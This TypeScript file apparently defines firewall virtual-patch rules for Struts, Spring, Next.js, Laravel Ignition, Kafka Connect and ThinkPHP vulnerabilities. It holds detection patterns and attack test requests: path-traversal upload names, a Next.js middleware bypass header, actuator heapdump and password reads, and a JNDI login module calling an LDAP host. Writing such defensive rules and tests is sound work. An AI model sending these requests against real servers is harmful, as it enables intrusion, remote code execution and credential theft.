import type { Patch } from "../../../core/patch.ts"
import { get, nvd, post, postMultipart, present, request, shipped, text } from "./shipped.ts"

const UPLOAD =
    'Content-Disposition: form-data; name="Upload"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\nhello'
const FORM = "application/x-www-form-urlencoded"
const JSON_TYPE = "application/json"

function field(name: string, value: string): string {
    return `Content-Disposition: form-data; name="${name}"\r\n\r\n${value}`
}

/** Frameworks that applications are built on: Struts, Spring, Next.js, Laravel, Kafka Connect. */
export const FRAMEWORK_PATCHES: readonly Patch[] = [
    shipped({
        id: "struts-upload-name-by-expression",
        advisories: [
            nvd("CVE-2024-53677"),
            { id: "S2-067", url: "https://cwiki.apache.org/confluence/display/WW/S2-067" },
        ],
        product: "Apache Struts 2.0.0–2.3.37, 2.5.0–2.5.33, 6.0.0–6.3.0.2",
        explanation: {
            ja: "アップロードしたファイルの名前を、項目名に書いた式で後から付け替え、別の場所に置かせようとしています",
            en: "the name of an uploaded file is replaced by a field whose name is an expression, to put it elsewhere",
        },
        routes: ["/**"],
        methods: ["POST", "PUT"],
        condition: {
            kind: "any-of",
            of: [
                present("multipart.top.*FileName.content"),
                present("query.top.*FileName"),
                text("matches", "multipart*.name", String.raw`\btop\b.*FileName`),
            ],
        },
        cwe: [22, 434],
        tests: {
            attacks: [
                postMultipart("/upload.action", [UPLOAD, field("top.UploadFileName", "../shell.txt")]),
                postMultipart("/upload.action", [UPLOAD, field("[0].top.UploadFileName", "../shell.txt")]),
            ],
            benign: [
                postMultipart("/upload.action", [UPLOAD, field("caption", "top")]),
                postMultipart("/upload.action", [UPLOAD, field("topFileName", "a.txt")]),
            ],
        },
    }),
    shipped({
        id: "struts-upload-name-by-case",
        advisories: [
            nvd("CVE-2023-50164"),
            { id: "S2-066", url: "https://cwiki.apache.org/confluence/display/WW/S2-066" },
        ],
        product: "Apache Struts 2.0.0–2.3.37, 2.5.0–2.5.32, 6.0.0–6.3.0",
        explanation: {
            ja: "大文字と小文字を変えた項目で、アップロードしたファイルの名前を上の階層へ向けて書き換えようとしています",
            en: "a field that differs in case replaces the name of an uploaded file by a path that climbs",
        },
        routes: ["/**"],
        methods: ["POST", "PUT"],
        condition: {
            kind: "any-of",
            of: [
                text("matches", "multipart.*FileName.content", String.raw`\.\.[/\\]`),
                text("matches", "query.*FileName", String.raw`\.\.[/\\]`),
            ],
        },
        cwe: [22, 434],
        tests: {
            attacks: [
                postMultipart("/upload.action", [UPLOAD, field("uploadFileName", "../a.txt")]),
                postMultipart("/upload.action?uploadFileName=../a.txt", [UPLOAD]),
            ],
            benign: [
                postMultipart("/upload.action", [UPLOAD, field("uploadFileName", "a.txt")]),
                postMultipart("/upload.action", [UPLOAD, field("note", "see ../a.txt")]),
            ],
        },
    }),
    shipped({
        id: "spring-actuator-inside",
        advisories: [
            {
                id: "spring-boot-actuator",
                url: "https://docs.spring.io/spring-boot/reference/actuator/endpoints.html#actuator.endpoints.security",
            },
        ],
        product: "Spring Boot Actuator",
        explanation: {
            ja: "管理用の口から、メモリーの中身（個人情報やパスワードを含む）や設定を読み出そうとしています",
            en: "the management endpoints give away the memory's contents, with personal data and passwords, or settings",
        },
        modeReason: {
            ja: "監視が使う health、info、metrics、prometheus は含まず、ここを外から開く必要はないため遮断します",
            en: "health, info, metrics and prometheus are not among them; nobody has to reach these from outside: refused",
        },
        routes: [
            "heapdump",
            "threaddump",
            "env/**",
            "configprops/**",
            "jolokia/**",
            "logfile",
            "shutdown",
            "gateway/**",
            "trace",
            "httptrace",
        ].map((endpoint) => `/**/actuator/${endpoint}`),
        cwe: [200, 497],
        tests: {
            attacks: [
                get("/actuator/heapdump"),
                get("/app/actuator/env/spring.datasource.password"),
                get("/actuator;x/heapdump"),
            ],
            benign: [get("/actuator/health"), get("/actuator/prometheus"), get("/products/actuator/7")],
        },
    }),
    shipped({
        id: "spring-gateway-route",
        advisories: [nvd("CVE-2022-22947")],
        product: "Spring Cloud Gateway < 3.0.7, 3.1.0",
        explanation: {
            ja: "管理用の口から経路を書き換え、サーバーで任意の命令を実行させようとしています",
            en: "a route is changed over the management endpoint, which makes the server run commands",
        },
        routes: ["/**/actuator/gateway/routes/**", "/**/actuator/gateway/refresh"],
        methods: ["POST", "PUT", "DELETE"],
        cwe: [94],
        tests: {
            attacks: [
                post("/actuator/gateway/routes/a", JSON_TYPE, '{"id":"a","uri":"http://example.com"}'),
                request("POST", "/actuator/gateway/refresh", ["Content-Length: 0"], ""),
            ],
            benign: [post("/gateway/routes/a", JSON_TYPE, '{"id":"a"}')],
        },
    }),
    shipped({
        id: "nextjs-middleware-skipped",
        advisories: [
            nvd("CVE-2025-29927"),
            { id: "GHSA-f82v-jwr5-mffw", url: "https://github.com/advisories/GHSA-f82v-jwr5-mffw" },
        ],
        product: "Next.js < 12.3.5, 13.5.9, 14.2.25, 15.2.3",
        explanation: {
            ja: "内部用のヘッダーを付け、認証などの中間処理を飛び越えようとしています",
            en: "a header of internal use makes the application skip its middleware, and with it the sign-in",
        },
        routes: ["/**"],
        condition: present("header.x-middleware-subrequest"),
        cwe: [285],
        tests: {
            attacks: [
                get("/admin", ["X-Middleware-Subrequest: middleware:middleware:middleware:middleware:middleware"]),
                get("/", ["x-middleware-subrequest: src/middleware"]),
            ],
            benign: [get("/admin", ["x-middleware-prefetch: 1"]), get("/search?q=x-middleware-subrequest")],
        },
    }),
    shipped({
        id: "laravel-ignition-solution",
        advisories: [nvd("CVE-2021-3129")],
        product: "Laravel Ignition < 2.5.2",
        explanation: {
            ja: "開発用の修正ボタンを外から押し、サーバーのファイルを書き換えて命令を実行させようとしています",
            en: "a development aid is asked to apply its fix, which writes files on the server and runs commands",
        },
        routes: ["/**/_ignition/execute-solution"],
        cwe: [502],
        tests: {
            attacks: [
                post(
                    "/_ignition/execute-solution",
                    JSON_TYPE,
                    '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"a"}}',
                ),
            ],
            benign: [get("/_ignition/health-check"), post("/solutions", FORM, "name=ignition")],
        },
    }),
    shipped({
        id: "kafka-connect-login-module",
        advisories: [nvd("CVE-2023-25194"), nvd("CVE-2025-27818")],
        product: "Apache Kafka Connect 2.3.0–3.9.0",
        explanation: {
            ja: "接続の設定に、外部の LDAP から部品を読み込ませる認証部品を指定し、命令を実行させようとしています",
            en: "a connector's setting names a login module that loads objects from an LDAP server, and runs them",
        },
        routes: ["/**/connectors/**", "/**/connector-plugins/**", "/**/druid/indexer/v1/sampler"],
        methods: ["POST", "PUT", "PATCH"],
        condition: text("matches", "json.*", String.raw`\b(?:Jndi|Ldap)LoginModule\b`),
        cwe: [502],
        tests: {
            attacks: [
                post(
                    "/connectors",
                    JSON_TYPE,
                    '{"name":"a","config":{"producer.override.sasl.jaas.config":"com.sun.security.auth.module.JndiLoginModule required user.provider.url=\\"ldap://192.0.2.1/a\\";"}}',
                ),
            ],
            benign: [
                post(
                    "/connectors",
                    JSON_TYPE,
                    '{"name":"a","config":{"producer.override.sasl.jaas.config":"org.apache.kafka.common.security.plain.PlainLoginModule required;"}}',
                ),
            ],
        },
    }),
    shipped({
        id: "thinkphp-class-by-parameter",
        advisories: [nvd("CVE-2018-20062"), nvd("CVE-2019-9082")],
        product: "ThinkPHP 5.0.0–5.0.23, 5.1.0–5.1.31",
        explanation: {
            ja: "引数 s で枠組みの内部の部品を名指しし、任意の関数を実行させようとしています",
            en: "the parameter `s` names a class of the framework itself, to have any function called",
        },
        routes: ["/**"],
        condition: text("matches", "query.s", String.raw`(?:^|[/\\.])think\\[a-z]`, true),
        cwe: [94],
        tests: {
            attacks: [
                get(String.raw`/index.php?s=/index/\think\app/invokefunction&function=call_user_func_array`),
                get("/?s=index/think%5Crequest/input"),
            ],
            benign: [get("/index.php?s=/index/list"), get("/?s=think")],
        },
    }),
]
